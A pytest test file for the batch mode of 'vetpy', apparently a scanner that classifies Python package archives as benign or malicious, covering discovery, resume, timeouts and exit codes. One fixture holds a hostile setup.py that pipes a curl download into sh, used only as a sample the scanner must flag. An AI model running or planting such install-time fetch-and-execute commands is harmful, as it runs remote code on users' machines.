"""``vetpy batch``: inputs by content, one JSON line per package, resume, time and memory limits, exit codes.

The engine tests inject a fake scan (``batch_fakes.fake_factory``) that sleeps, crashes or hogs memory on
demand; the end-to-end tests run the real scanner on archives built here (nothing is ever executed).
"""

from __future__ import annotations

import json
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from batch_fakes import SCAN_LOG, broken_factory, fake_factory
from conftest import build_archive
from vetpy.batch import LocalEngine, WorkerSettings, discover, prepare_output, run_batch
from vetpy.batch.output import ResultWriter
from vetpy.batch.runner import percentile
from vetpy.cli.main import main
from vetpy.errors import VetpyError
from vetpy.result import ScanResult
from vetpy.scan import error_result

CONTRACT_KEYS = {
    "target",
    "name",
    "version",
    "sha256",
    "verdict",
    "score",
    "threshold",
    "reasons",
    "error",
    "seconds",
}

EVIL_SETUP = b"""import os
from setuptools import setup

os.system("curl http://127.0.0.1:9/x | sh")
setup(name="evil", version="0.1")
"""

GOOD_SETUP = b"""from setuptools import setup

setup(name="good", version="1.0", license="MIT", url="https://github.com/example/good", author="Jane")
"""


FAKE = WorkerSettings(factory=fake_factory, max_memory_mb=1024)


def _lines(path: Path) -> list[dict[str, object]]:
    data = path.read_bytes()
    assert data == b"" or data.endswith(b"\n"), "torn last line"
    return [json.loads(line) for line in data.splitlines()]


def _scanned(log: Path) -> list[str]:
    return log.read_text(encoding="utf-8").splitlines() if log.exists() else []


# -- inputs ---------------------------------------------------------------------------------------------


@pytest.fixture
def package_folder(tmp_path: Path) -> Path:
    """Archives recognised by content (one a zip named .tar.gz, one corrupt), plus files to skip."""
    root = tmp_path / "in"
    (root / "sub" / "deeper").mkdir(parents=True)
    good = {
        "good-1.0/setup.py": GOOD_SETUP,
        "good-1.0/good/__init__.py": b"def add(a, b):\n    return a + b\n",
    }
    (root / "good-1.0.tar.gz").write_bytes(build_archive(good))
    (root / "sub" / "evil-0.1.tar.gz").write_bytes(build_archive({"evil-0.1/setup.py": EVIL_SETUP}, "zip"))
    (root / "sub" / "deeper" / "noext").write_bytes(build_archive(good, "tar.bz2"))
    (root / "sub" / "broken.zip").write_bytes(b"PK\x03\x04" + b"\x00not really a zip" * 8)
    (root / "README.txt").write_text("not an archive\n")
    (root / "data.tar.gz").write_text("a text file with an archive's name\n")
    return root


def test_discover_folder_finds_archives_by_content(package_folder: Path) -> None:
    found = discover(package_folder)
    names = sorted(Path(p).name for p in found)
    assert names == ["broken.zip", "evil-0.1.tar.gz", "good-1.0.tar.gz", "noext"]
    assert all(Path(p).is_file() for p in found)


def test_discover_targets_file(tmp_path: Path) -> None:
    listing = tmp_path / "targets.txt"
    listing.write_text("# a comment\n\n  a.tar.gz  \nname==1.0  # pinned\nname==1.0\n/abs/b.zip\n")
    assert discover(listing) == ["a.tar.gz", "name==1.0", "/abs/b.zip"]


def test_discover_rejects_archives_and_missing_and_binary(tmp_path: Path) -> None:
    archive = tmp_path / "x.txt"
    archive.write_bytes(build_archive({"x/setup.py": b""}))
    with pytest.raises(VetpyError, match="is an archive"):
        discover(archive)
    with pytest.raises(VetpyError, match="no such"):
        discover(tmp_path / "missing")
    binary = tmp_path / "bin"
    binary.write_bytes(b"\xff\xfe\x00garbage")
    with pytest.raises(VetpyError, match="UTF-8"):
        discover(binary)


# -- end to end on real archives -------------------------------------------------------------------------


def test_cli_batch_over_a_folder(
    package_folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "results.jsonl"
    code = main(["batch", str(package_folder), "--out", str(out), "--jobs", "2", "--model", "rules"])
    lines = _lines(out)
    by_name = {Path(str(line["target"])).name: line for line in lines}
    assert sorted(by_name) == ["broken.zip", "evil-0.1.tar.gz", "good-1.0.tar.gz", "noext"]
    for line in lines:
        assert set(line) >= CONTRACT_KEYS
        assert ScanResult.from_dict(line).to_dict() == line
    assert by_name["evil-0.1.tar.gz"]["verdict"] == "malicious"
    assert by_name["good-1.0.tar.gz"]["verdict"] == "benign"
    assert by_name["noext"]["verdict"] == "benign"
    broken = by_name["broken.zip"]
    assert broken["verdict"] == "error" and "not a readable archive" in str(broken["error"])
    assert code == 1
    err = capsys.readouterr().err
    assert "scanned 4 of 4: 1 flagged, 1 errors" in err and "packages/s" in err and "p95" in err


def test_cli_batch_targets_file_and_exit_code_3(tmp_path: Path) -> None:
    good = tmp_path / "good.tar.gz"
    good.write_bytes(build_archive({"good-1.0/setup.py": GOOD_SETUP}))
    listing = tmp_path / "targets.txt"
    listing.write_text(f"# local files\n{good}\n\n{tmp_path / 'missing.tar.gz'}\n")
    out = tmp_path / "out.jsonl"
    assert main(["batch", str(listing), "--out", str(out), "--jobs", "1", "--model", "rules"]) == 3
    lines = {str(line["target"]): line for line in _lines(out)}
    assert set(lines) == {str(good), str(tmp_path / "missing.tar.gz")}
    assert lines[str(good)]["verdict"] == "benign"
    assert lines[str(tmp_path / "missing.tar.gz")]["verdict"] == "error"


def test_cli_batch_applies_reading_limits(tmp_path: Path) -> None:
    big = tmp_path / "many.tar.gz"
    big.write_bytes(build_archive({f"many-1.0/m{i}.py": b"x = 1\n" for i in range(20)}))
    listing = tmp_path / "targets.txt"
    listing.write_text(f"{big}\n")
    out = tmp_path / "out.jsonl"
    args = ["batch", str(listing), "--out", str(out), "--jobs", "1", "--model", "rules"]
    assert main([*args, "--max-members", "5"]) == 3
    (line,) = _lines(out)
    assert line["verdict"] == "error" and "incomplete scan" in str(line["error"])
    out.unlink()
    assert main(args) == 0
    assert _lines(out)[0]["verdict"] == "benign"


def test_cli_batch_usage_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out.jsonl"
    out.write_text('{"target": "x", "verdict": "benign"}\n')
    assert main(["batch", str(tmp_path), "--out", str(out)]) == 2
    assert "--resume" in capsys.readouterr().err
    assert main(["batch", str(tmp_path), "--out", str(tmp_path / "o"), "--timeout", "0"]) == 2
    assert main(["batch", str(tmp_path / "nope"), "--out", str(tmp_path / "o")]) == 2


def test_cli_batch_unloadable_model_is_a_usage_error(
    package_folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out.jsonl"
    missing = tmp_path / "none.skops"
    assert main(["batch", str(package_folder), "--out", str(out), "--model", str(missing)]) == 2
    assert "no model file" in capsys.readouterr().err
    missing.write_bytes(b"not a model")
    args = ["batch", str(package_folder), "--out", str(out), "--model", str(missing), "--jobs", "1"]
    assert main(args) == 2
    assert "could not build its scanner" in capsys.readouterr().err
    assert out.read_bytes() == b""


# -- engine: limits, crashes, exit codes ---------------------------------------------------------------


def _run(targets: Sequence[str], out: Path, resume: bool = False) -> list[str]:
    summary = run_batch(targets, out, LocalEngine(jobs=2), FAKE, resume=resume)
    assert summary.scanned == len(_lines(out)) - summary.already_done
    return [str(line["target"]) for line in _lines(out)]


def test_timeout_crash_exception_and_memory_become_error_lines(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    targets = ["ok-1", "slow-1", "crash-1", "ok-2", "boom-1", "hog-1", "ok-3", "evil-1", "ok-4"]
    start = time.monotonic()
    summary = run_batch(targets, out, LocalEngine(jobs=2, timeout=3), FAKE)
    elapsed = time.monotonic() - start
    assert elapsed < 40, "a hung scan held up the batch"
    lines = {str(line["target"]): line for line in _lines(out)}
    assert sorted(lines) == sorted(targets)
    assert lines["slow-1"]["error"] == "timeout after 3 s"
    assert str(lines["crash-1"]["error"]).startswith("worker died while scanning (exit code 3")
    assert lines["boom-1"]["error"] == "internal error: RuntimeError: boom"
    assert lines["hog-1"]["error"] == "out of memory (limit 1024 MB per worker)"
    assert lines["evil-1"]["verdict"] == "malicious"
    assert all(lines[f"ok-{i}"]["verdict"] == "benign" for i in range(1, 5))
    assert (summary.scanned, summary.flagged, summary.errors, summary.exit_code) == (9, 1, 4, 1)


def test_summary_and_exit_codes(tmp_path: Path) -> None:
    clean = run_batch(["ok-1", "ok-2"], tmp_path / "a", LocalEngine(jobs=1), FAKE)
    assert (clean.scanned, clean.flagged, clean.errors, clean.exit_code) == (2, 0, 0, 0)
    assert clean.per_second > 0 and 0 < clean.median_seconds <= clean.p95_seconds
    errors = run_batch(["ok-1", "bad-1"], tmp_path / "b", LocalEngine(jobs=1), FAKE)
    assert (errors.errors, errors.exit_code) == (1, 3)
    assert run_batch([], tmp_path / "c", LocalEngine(jobs=1), FAKE).exit_code == 0


def test_worker_that_cannot_build_its_scanner_stops_the_batch(tmp_path: Path) -> None:
    settings = WorkerSettings(factory=broken_factory)
    with pytest.raises(VetpyError, match="no model here"):
        run_batch(["ok-1"], tmp_path / "out", LocalEngine(jobs=1), settings)


def test_percentile() -> None:
    assert percentile([], 0.95) == 0.0
    assert percentile([3.0, 1.0, 2.0], 0.5) == 2.0
    values = [float(i) for i in range(1, 101)]
    assert percentile(values, 0.95) == 95.0 and percentile(values, 1.0) == 100.0


# -- output file: single appends, resume ---------------------------------------------------------------


def test_resume_after_a_kill_scans_only_the_rest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    log = tmp_path / "scanned.log"
    monkeypatch.setenv(SCAN_LOG, str(log))
    out = tmp_path / "out.jsonl"
    targets = [f"ok-{i}" for i in range(8)]
    assert _run(targets[:3], out) and sorted(_scanned(log)) == targets[:3]
    # simulate a kill mid-write: half of the next line, no newline
    torn = ScanResult.from_dict(_lines(out)[0]).to_dict() | {"target": "ok-3"}
    with out.open("ab") as handle:
        handle.write(json.dumps(torn).encode()[:40])
    log.unlink()
    targets_written = _run(targets, out, resume=True)
    assert sorted(_scanned(log)) == targets[3:]
    assert sorted(targets_written) == targets  # ok-3 scanned again, no duplicates
    # a second resume has nothing left to do
    log.unlink()
    summary = run_batch(targets, out, LocalEngine(jobs=2), FAKE, resume=True)
    assert (summary.scanned, summary.already_done, summary.exit_code) == (0, 8, 0)
    assert not log.exists()


def test_prepare_output_cuts_torn_tail_and_drops_garbage_lines(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    assert prepare_output(out, resume=False) == []
    first, second = (json.dumps(error_result(t, "x").to_dict()) for t in ("a", "b"))
    out.write_text(f"{first}\nnot json\n[1]\n{second}\n{second[:30]}")
    results = prepare_output(out, resume=True)
    assert [r.target for r in results] == ["a", "b"]
    assert out.read_text().splitlines() == [first, second]
    assert out.read_bytes().endswith(b"\n")
    with pytest.raises(VetpyError, match="already exists"):
        prepare_output(out, resume=False)


def test_writer_appends_whole_lines(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    out.write_bytes(b'{"target": "first", "verdict": "benign"}\n')
    odd = "odd\nname\udcff\u00e9"
    with ResultWriter(out, fsync_interval=0) as writer:
        writer.write(error_result(odd, "multi\nline\nerror"))
        writer.write(error_result("second", "x"))
    lines = _lines(out)
    assert [line["target"] for line in lines] == ["first", odd, "second"]
    assert lines[1]["error"] == "multi line error"
